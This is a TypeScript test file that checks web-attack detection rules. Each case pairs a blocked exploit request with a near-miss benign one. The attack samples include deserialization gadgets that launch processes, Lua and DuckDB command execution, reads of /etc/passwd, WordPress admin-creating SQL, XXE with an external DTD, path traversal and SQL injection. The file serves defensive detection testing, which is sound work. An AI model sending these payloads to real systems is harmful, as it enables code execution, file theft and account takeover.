/**
 * Bundled rules of rev 2026-12-05v (issue 18, session 17): mechanisms held-out-9's and held-out-10's misses
 * showed, written for the class of exploit rather than the product. Each fires on its attack, sent the
 * way such an exploit sends it, and stays quiet on the benign text closest to it (a JSON class name that
 * is no callable, a Yii config naming a plain widget, a DuckDB query of a data file, a Razor helper call).
 */
import { gzipSync } from 'node:zlib';
import { describe } from 'vitest';
import type { RequestSpec } from './fixtures.js';
import { form, FORM_HEADERS, json, q, type RuleCase, testPrefilterEntries, testRuleCases, useBundledRuleSet } from './bundled-requests.js';

const { hits, rules } = useBundledRuleSet();

const path = (url: string): RequestSpec => ({ url });
const gz64 = (text: string): string => gzipSync(text).toString('base64');
const webPart = (table: string): RequestSpec => ({
  method: 'POST',
  url: '/_layouts/15/ToolPane.aspx?DisplayMode=Edit',
  headers: FORM_HEADERS,
  body: `MSOTlPn_DWP=${encodeURIComponent(`<x:ExcelDataSet CompressedDataTable="${gz64(table)}" runat="server"/>`)}`,
});
const upload = (filename: string): RequestSpec => ({
  method: 'POST',
  url: '/?_task=settings&_action=upload',
  headers: [['Host', 'mail.example.test'], ['Content-Type', 'multipart/form-data; boundary=b0undary']],
  body: `--b0undary\r\nContent-Disposition: form-data; name="_file[]"; filename="${filename}"\r\nContent-Type: image/png\r\n\r\nPNG\r\n--b0undary--\r\n`,
});

const CASES: RuleCase[] = [
  [9001022, 'block', 'an ExpandedWrapper of Process and ObjectDataProvider in a DataSet type, gzip+base64 inside a web part attribute', webPart('<DataSet><xs:element msdata:DataType="System.Data.Services.Internal.ExpandedWrapper`2[[System.Diagnostics.Process, System],[System.Windows.Data.ObjectDataProvider, PresentationFramework]], System.Data.Services"/></DataSet>'), webPart('<DataSet><xs:element name="Sales" msdata:DataType="System.Decimal"/></DataSet>')],
  [9001022, 'block', 'an ExpandedWrapper with an ObjectDataProvider in an XML body', { method: 'POST', url: '/api/import', headers: [['Content-Type', 'text/xml']], body: '<ExpandedWrapperOfLosFormatterObjectDataProvider><ProjectedProperty0><ObjectInstance xsi:type="LosFormatter"/><MethodName>Deserialize</MethodName></ProjectedProperty0></ExpandedWrapperOfLosFormatterObjectDataProvider>' }, { method: 'POST', url: '/api/import', headers: [['Content-Type', 'text/xml']], body: '<Docs><p>The ExpandedWrapper class is internal to WCF Data Services projections.</p></Docs>' }],
  [9001023, 'block', 'a JSON class hook naming subprocess.getoutput, pretty-printed', json('{\n  "__unhandled_exc__": {\n    "__class__": "subprocess.getoutput",\n    "__args__": ["uname -a"]\n  }\n}'), json('{"__class__": "datetime.date", "__args__": [2024, 5, 1]}')],
  [9001023, 'block', 'a JSON class hook naming os.system in a form-encoded JSON value', form('payload=%7B%22__class__%22%3A%22os.system%22%2C%22__args__%22%3A%5B%22id%22%5D%7D'), form('payload=%7B%22__class__%22%3A%22app.models.Invoice%22%7D')],
  [9001024, 'block', 'a Yii behaviour config whose __class is GuzzleHttp FnStream with a __construct() key, in JSON', json('{"assetId":3,"handle":{"width":10,"as b":{"class":"craft\\\\behaviors\\\\FieldLayoutBehavior","__class":"GuzzleHttp\\\\Psr7\\\\FnStream","__construct()":[[]],"_fn_close":"phpinfo"}}}'), json('{"widget":{"class":"CarouselWidget","items":4,"__className":"Carousel"}}')],
  [9001024, 'block', 'a bracket parameter setting __class to a namespaced PHP class, in a query', q('config[__class]=yii%5Crbac%5CPhpManager&config[itemFile]=/tmp/x'), q('config[class]=slider&config[items]=4')],
  [9001025, 'block', 'a PHP object in session-serialization form in an upload file name', upload('a|O:16:"Crypt_GPG_Engine":1:{S:26:"\\00Crypt_GPG_Engine\\00_gpgconf";s:9:"touch /x;";}'), upload('holiday|photo.png')],
  [9001025, 'block', 'a session-serialization object in a JSON string, its quotes escaped', json('{"from":"x|O:21:\\"JDatabaseDriverMysqli\\":3:{s:2:\\"fc\\";}"}'), json('{"note":"use the format key|value and O:3 for objects"}')],
  [9001350, 'block', 'a DuckDB SQL expression reading /etc/passwd through read_csv_auto, in JSON', json('{"queries":[{"refId":"A","type":"sql","expression":"SELECT * FROM read_csv_auto(\'/etc/passwd\')"}]}'), json('{"queries":[{"refId":"A","type":"sql","expression":"SELECT * FROM read_csv_auto(\'/data/exports/sales.csv\')"}]}')],
  [9001350, 'block', 'INSTALL shellfs and a read_text pipe, in a form', form('sql=INSTALL+shellfs+FROM+community%3BLOAD+shellfs%3BSELECT+*+FROM+read_text(%27id+%7C%27)'), form('sql=SELECT+*+FROM+read_text(%27notes%2Freadme.md%27)')],
  [9001351, 'block', 'Lua io.popen of a literal command in a gateway plugin config', json('{"name":"pre-function","config":{"access":["local f=io.popen(\'uname -a\') ngx.say(f:read(\'*a\'))"]}}'), json('{"name":"pre-function","config":{"access":["kong.log.info(\'io.popen is disabled in the sandbox\')"]}}')],
  [9001351, 'block', 'Lua io.popen right after a percent-encoded =, in a form', form("name=pre-function&config.access[1]=local+f%3Dio.popen('hostname')+ngx.say(f%3Aread('*a'))"), form("name=pre-function&config.access[1]=local+f%3Dradio.open('hostname')")],
  [9001350, 'block', 'rev 2: read_csv_auto of a log under /var/log, in JSON', json('{"expression":"SELECT * FROM read_csv_auto(\'/var/log/auth.log\')"}'), json('{"expression":"SELECT * FROM read_csv_auto(\'logs/2024-05.csv\')"}')],
  [9001352, 'block', 'Lua os.execute of a literal command in a gateway plugin config, its parenthesis encoded', form("name=post-function&config.access[1]=os.execute%28'uname+-a'%29"), json('{"name":"post-function","config":{"access":["-- os.execute is not available here\\nkong.log.info(\'hi\')"]}}')],
  [9001353, 'block', 'Lua io.open of /etc/passwd answered back, in JSON', json('{"config":{"access":["kong.response.exit(200, io.open(\'/etc/passwd\'):read(\'*a\'))"]}}'), json('{"config":{"access":["local f = io.open(\'/usr/local/share/lua/5.1/x.lua\')"]}}')],
  [9001026, 'block', 'a jsonpickle py/reduce of os.system', json('{"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["id"]}]}'), json('{"py/object": "app.models.Order", "id": 7, "links": ["https://ex.example.test/happy/path"]}')],
  [9001026, 'block', 'a jsonpickle py/object naming subprocess.Popen in a query value', q('state=%7B%22py%2Fobject%22%3A%22subprocess.Popen%22%7D'), q('state=%7B%22py%2Fobject%22%3A%22collections.OrderedDict%22%7D')],
  [9000197, 'block', 'an INSERT INTO wp_users with a password column, in a form', form("q=INSERT+INTO+wp_users+(user_login%2C+user_pass%2C+user_email)+VALUES+('x'%2C+MD5('y')%2C+'x%40example.test')"), form("sql=INSERT+INTO+users+(email%2C+created_at)+VALUES+(%3F%2C+%3F)")],
  [9000197, 'block', 'an UPDATE of a password to MD5 of a literal, in JSON', json('{"query":"UPDATE wp_users SET user_pass=MD5(\u0027p4ss\u0027) WHERE ID=1"}'), json('{"stack":"UPDATE users SET last_login = CURRENT_TIMESTAMP WHERE id = $1"}')],
  [9000198, 'block', 'a usermeta capabilities row making an administrator', form("q=INSERT+INTO+wp_usermeta+(user_id%2C+meta_key%2C+meta_value)+VALUES+(5%2C+'wp_capabilities'%2C+'a%3A1%3A%7Bs%3A13%3A%22administrator%22%3Bb%3A1%3B%7D')"), form("q=SELECT+meta_value+FROM+wp_usermeta+WHERE+meta_key%3D'wp_capabilities'")],
  [9000604, 'block', 'a DOCTYPE with an external SYSTEM DTD URL in a query parser parameter', q("q=%7B!xmlparser+v%3D'%3C!DOCTYPE+a+SYSTEM+%22http%3A%2F%2F203.0.113.9%2Fx.dtd%22%3E%3Ca%3E%3C%2Fa%3E'%7D"), q("msg=Unexpected+token+%27%3C%27%2C+%22%3C!DOCTYPE+%22...+is+not+valid+JSON")],
  [9000604, 'block', 'a parameter entity with a SYSTEM URL in a query', q("xml=%3C!DOCTYPE+r+%5B%3C!ENTITY+%25+d+SYSTEM+%22https%3A%2F%2Fcb.example.test%2Fe.dtd%22%3E+%25d%3B%5D%3E%3Cr%2F%3E"), q("xml=%3C!DOCTYPE+html+PUBLIC+%22-%2F%2FW3C%2F%2FDTD+XHTML+1.0+Strict%2F%2FEN%22%3E")],
  [9000706, 'block', 'a Razor code block starting a process, in JSON', json('{"Template":"<p>Hi @Model.Name</p>@{ System.Diagnostics.Process.Start(\\"cmd.exe\\", \\"/c whoami\\"); }"}'), json('{"Template":"<p>Hi @Model.Name, it is @System.DateTime.Now.Year</p>"}')],
  [9000706, 'block', 'a percent-encoded Razor expression reading a file, in a form', form('Body=%40System.IO.File.ReadAllText(%22C%3A%5Cinetpub%5Cwwwroot%5Cweb.config%22)'), form('Body=Use+System.IO.File.ReadAllText+to+load+the+template+%40Model.Path')],
  [9000413, 'block', "an empty path parameter before WEB-INF after a resource prefix", path('/s/abc/_/;/WEB-INF/web.xml'), path('/platform/app/-/blob/main/src/main/webapp/WEB-INF/web.xml')],
  [9000413, 'block', 'an encoded semicolon before META-INF', path('/jira/s/x1/_/%3B/META-INF/maven/com.example/app/pom.properties'), path('/webjars/jquery/3.7.1/META-INF/resources/jquery.js;v=3')],
  [9001255, 'block', 'a ;.jsp suffix on a REST path in a query value', q('jsp=/app/rest/users;.jsp'), q('page=/docs/rest/users.jsp;v=2')],
  [9001255, 'block', 'a ;.jsp suffix in the path', path('/app/rest/server;.jsp'), path('/app/login.jsp;jsessionid=A1B2C3D4E5F60718')],
  [9000196, 'block', 'CASE WHEN (1=1) in a sort value', form('sorting=user_registered%2C(CASE+WHEN+(1%3D1)+THEN+user_login+ELSE+display_name+END)'), form('sorting=user_registered&order=desc&note=case+when+shipping+is+free')],
  [9000196, 'block', 'CASE WHEN comparing two numbers in an ordering parameter', q('list[fullordering]=(CASE%20WHEN%20(4521%3D4521)%20THEN%201%20ELSE%20(SELECT%201%20UNION%20SELECT%202)%20END)'), q('q=sql+CASE+WHEN+status%3D1+THEN+%27open%27+END')],
];

describe("bundled rules for held-out-9's and held-out-10's exploit mechanisms (rev 2026-12-05v)", () => {
  testRuleCases(CASES, hits);

  testPrefilterEntries(CASES.map(([sid]) => sid), rules);
});
